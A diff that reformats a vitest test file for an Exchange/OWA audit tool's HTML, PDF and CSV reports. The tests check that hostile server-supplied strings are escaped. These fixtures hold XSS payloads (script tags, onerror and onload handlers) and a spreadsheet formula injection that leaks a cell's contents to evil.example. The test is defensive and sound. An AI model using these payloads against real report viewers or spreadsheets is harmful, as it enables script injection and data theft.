@@ -7,9 +7,23 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { pathToFileURL } from 'node:url';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { CSV_COLUMNS, findChromium, PdfRenderer, writeReports, type ReportFiles } from '../src/report/index.js';
+import {
+  CSV_COLUMNS,
+  findChromium,
+  PdfRenderer,
+  writeReports,
+  type ReportFiles,
+} from '../src/report/index.js';
 import type { ResultRecord } from '../src/results/schema.js';
-import { escapeHtml, identityOf, ipPattern, oneLine, parseCsv, pdfText, squash } from './fixtures/report/helpers.js';
+import {
+  escapeHtml,
+  identityOf,
+  ipPattern,
+  oneLine,
+  parseCsv,
+  pdfText,
+  squash,
+} from './fixtures/report/helpers.js';
 import { MIXED_RUN, mixedRecords } from './fixtures/report/synthetic-run.js';
 
 const NOW = new Date('2026-11-27T09:00:00Z');
@@ -30,7 +44,12 @@ beforeAll(async () => {
   const chromium = findChromium();
   if (!chromium.found) throw new Error(`these tests need Chromium: ${chromium.reason}`);
   renderer = await PdfRenderer.launch(chromium.path);
-  files = await writeReports(dir, { formats: ['html', 'pdf', 'csv'], perOwner: true, browser: renderer, now: NOW });
+  files = await writeReports(dir, {
+    formats: ['html', 'pdf', 'csv'],
+    perOwner: true,
+    browser: renderer,
+    now: NOW,
+  });
   html = readFileSync(join(dir, 'report.html'), 'utf8');
   text = pdfText(join(dir, 'report.pdf'));
 }, 120_000);
@@ -51,7 +70,16 @@ describe('the main report', () => {
 
   it('opens with the authorisation, the run and the data, with the staleness warning', () => {
     const t = oneLine(text);
-    for (const s of ['ACME National CERT', 'CERT-2026-0412', 'cert@acme-cert.example', '2026-12-31', '2026-11-27 01:10 UTC', '2026-11-27 01:14 UTC', '4 min 38 s', 'owa-audit 0.1.0']) {
+    for (const s of [
+      'ACME National CERT',
+      'CERT-2026-0412',
+      'cert@acme-cert.example',
+      '2026-12-31',
+      '2026-11-27 01:10 UTC',
+      '2026-11-27 01:14 UTC',
+      '4 min 38 s',
+      'owa-audit 0.1.0',
+    ]) {
       expect(t).toContain(s);
     }
     expect(t).toContain('The vulnerability data is 99 days old (as of 2026-08-20)');
@@ -60,7 +88,9 @@ describe('the main report', () => {
 
   it('states the counts by patch level, product, support and owner', () => {
     const t = oneLine(text);
-    expect(t).toContain('12 Exchange servers found among 26 endpoints. 6 miss fixes for vulnerabilities known to be exploited in the wild. 9 run versions out of support.');
+    expect(t).toContain(
+      '12 Exchange servers found among 26 endpoints. 6 miss fixes for vulnerabilities known to be exploited in the wild. 9 run versions out of support.',
+    );
     // patch level × certainty: vulnerable 4 confirmed + 2 possible, outdated 2 + 1, current 2 + 0, unknown 0 + 1
     expect(t).toMatch(/VULNERABLE 4 2 6 OUTDATED 2 1 3 CURRENT 2 0 2 UNKNOWN 0 1 1/);
     expect(t).toContain('Exchange Server 2016 3 0 3 3');
@@ -79,12 +109,22 @@ describe('the main report', () => {
     expect(eol).toBeGreaterThan(kev);
     expect(outdated).toBeGreaterThan(eol);
     // the most severe first: 11 confirmed KEV CVEs on Exchange 2013 CU23
-    expect(t.slice(kev, eol)).toMatch(/^[^#]*# SERVER · OWNER VERSION VERDICT FIRST STEP 1 webmail\.contoso-health\.example/);
-    expect(t).toMatch(/webmail\.contoso-health\.example https:\/\/203\.0\.113\.20:443 · owner Contoso Health · checked [^·]+ VULNERABLE CONFIRMED OUT OF SUPPORT 11 KEV This Exchange 2013 server lacks fixes/);
-    expect(t).toMatch(/mail2\.fabrikam\.example https:\/\/192\.0\.2\.31:443 · owner Fabrikam Ltd · checked [^·]+ OUTDATED CONFIRMED/);
-    expect(t).toMatch(/owa\.fabrikam\.example https:\/\/192\.0\.2\.32:443 · owner Fabrikam Ltd · checked [^·]+ UNKNOWN POSSIBLE/);
+    expect(t.slice(kev, eol)).toMatch(
+      /^[^#]*# SERVER · OWNER VERSION VERDICT FIRST STEP 1 webmail\.contoso-health\.example/,
+    );
+    expect(t).toMatch(
+      /webmail\.contoso-health\.example https:\/\/203\.0\.113\.20:443 · owner Contoso Health · checked [^·]+ VULNERABLE CONFIRMED OUT OF SUPPORT 11 KEV This Exchange 2013 server lacks fixes/,
+    );
+    expect(t).toMatch(
+      /mail2\.fabrikam\.example https:\/\/192\.0\.2\.31:443 · owner Fabrikam Ltd · checked [^·]+ OUTDATED CONFIRMED/,
+    );
+    expect(t).toMatch(
+      /owa\.fabrikam\.example https:\/\/192\.0\.2\.32:443 · owner Fabrikam Ltd · checked [^·]+ UNKNOWN POSSIBLE/,
+    );
     // a possible verdict says what to check on the server
-    expect(t).toMatch(/203\.0\.113\.21 https:\/\/203\.0\.113\.21:443[\s\S]*?CHECK ON THE SERVER[^.]*ExSetup\.exe/);
+    expect(t).toMatch(
+      /203\.0\.113\.21 https:\/\/203\.0\.113\.21:443[\s\S]*?CHECK ON THE SERVER[^.]*ExSetup\.exe/,
+    );
     // updates to install, with Microsoft's page
     expect(t).toContain('support.microsoft.com/help/');
     // endpoints that could not be read, with the meaning of their error code
@@ -95,11 +135,17 @@ describe('the main report', () => {
   it('shows every hostile string as literal text in the PDF', () => {
     const t = squash(text);
     expect(hostile).toBeDefined();
-    expect(t).toContain(squash('<script>document.title="PWNED-SCRIPT"</script></style><style>body{display:none}</style>{{x}}{{{x}}}'));
+    expect(t).toContain(
+      squash(
+        '<script>document.title="PWNED-SCRIPT"</script></style><style>body{display:none}</style>{{x}}{{{x}}}',
+      ),
+    );
     expect(t).toContain(squash('15.1.2507.17"><img src=x onerror="document.title=\'PWNED-IMG\''));
-    expect(t).toContain(squash('CN=<script>document.title="PWNED-TLS"</script>, O=</style><h1>INJECTED</h1>'));
+    expect(t).toContain(
+      squash('CN=<script>document.title="PWNED-TLS"</script>, O=</style><h1>INJECTED</h1>'),
+    );
     expect(t).toContain(squash('=HYPERLINK("http://evil.example/?leak="&A1,"click")'));
-    expect(t).toContain(squash('evil-owa.contoso-health.example"><svg/onload=document.title=\'PWNED-HOST\'>'));
+    expect(t).toContain(squash("evil-owa.contoso-health.example\"><svg/onload=document.title='PWNED-HOST'>"));
     expect(t).toContain(squash('\\x00\\x07\\x1b[31mRED\\x1b[0m \\u202egnp.exe\\u202c'));
     expect(t).toContain('(4718morecharacters)');
     expect(t).toContain(squash('Parse Error: Expected HTTP/ <script>document.title="PWNED-ERR"</script>'));
@@ -118,12 +164,15 @@ describe('the main report', () => {
     // nothing from a scanned server is a link: only in-page anchors and Microsoft/CISA over https
     const hrefs = [...html.matchAll(/href="([^"]*)"/g)].map((m) => m[1] ?? '');
     expect(hrefs.length).toBeGreaterThan(10);
-    for (const h of hrefs) expect(h).toMatch(/^#[gh]-\d+$|^https:\/\/([a-z]+\.)*(microsoft\.com|cisa\.gov)\//);
+    for (const h of hrefs)
+      expect(h).toMatch(/^#[gh]-\d+$|^https:\/\/([a-z]+\.)*(microsoft\.com|cisa\.gov)\//);
   });
 });
 
 describe('with JavaScript switched on, the report still runs nothing', () => {
-  async function titleAfterLoading(file: string): Promise<{ title: string; scripts: number; images: number; pwned: boolean; csp: string[] }> {
+  async function titleAfterLoading(
+    file: string,
+  ): Promise<{ title: string; scripts: number; images: number; pwned: boolean; csp: string[] }> {
     const page = await renderer.browser.newPage();
     const csp: string[] = [];
     page.on('console', (m) => {
@@ -131,7 +180,10 @@ describe('with JavaScript switched on, the report still runs nothing', () => {
     });
     try {
       await page.setRequestInterception(true);
-      page.on('request', (r) => void (r.isNavigationRequest() && r.url().startsWith('file:') ? r.continue() : r.abort()));
+      page.on(
+        'request',
+        (r) => void (r.isNavigationRequest() && r.url().startsWith('file:') ? r.continue() : r.abort()),
+      );
       await page.goto(pathToFileURL(file).href, { waitUntil: 'load' });
       // A string expression: the test's TypeScript has no DOM types, the page has.
       const seen = (await page.evaluate(
@@ -161,7 +213,12 @@ describe('with JavaScript switched on, the report still runs nothing', () => {
     expect(blocked.csp.length).toBeGreaterThan(0);
 
     const withoutCsp = join(dir, 'injected-no-csp.html');
-    writeFileSync(withoutCsp, html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '').replace('<meta name="referrer"', `${inject}<meta name="referrer"`));
+    writeFileSync(
+      withoutCsp,
+      html
+        .replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '')
+        .replace('<meta name="referrer"', `${inject}<meta name="referrer"`),
+    );
     const ran = await titleAfterLoading(withoutCsp);
     expect(ran.title).toMatch(/CSP-(IMG-)?FAILED/);
   });
@@ -226,7 +283,7 @@ describe('per-owner reports', () => {
     }
   });
 
-  it('holds only that owner\'s endpoints: no other owner\'s host, IP or name, and nothing unowned', () => {
+  it("holds only that owner's endpoints: no other owner's host, IP or name, and nothing unowned", () => {
     for (const o of files.owners) {
       const ownHtml = readFileSync(o.html ?? '', 'utf8');
       const ownText = squash(pdfText(o.pdf ?? '')); // wrapped lines rejoined
@@ -261,7 +318,9 @@ describe('per-owner reports', () => {
     expect(t).toContain('reference CERT-2026-0412');
     expect(t).toContain('it did not log in, did not try passwords and did not exploit anything');
     expect(t).toContain('contact cert@acme-cert.example');
-    expect(t).toContain('3 Exchange servers found among 6 endpoints. 3 miss fixes for vulnerabilities known to be exploited in the wild.');
+    expect(t).toContain(
+      '3 Exchange servers found among 6 endpoints. 3 miss fixes for vulnerabilities known to be exploited in the wild.',
+    );
     expect(t).not.toContain('By owner');
   });
 });
@@ -290,6 +349,8 @@ describe('results.csv', () => {
     const col = (name: string) => CSV_COLUMNS.findIndex((c) => c.name === name);
     const evil = data.find((r) => r[3] === '203.0.113.66');
     expect(evil?.[col('tls_issuer')]).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"click")`);
-    expect(evil?.[col('host')]).toBe(`evil-owa.contoso-health.example"><svg/onload=document.title='PWNED-HOST'>`);
+    expect(evil?.[col('host')]).toBe(
+      `evil-owa.contoso-health.example"><svg/onload=document.title='PWNED-HOST'>`,
+    );
   });
 });
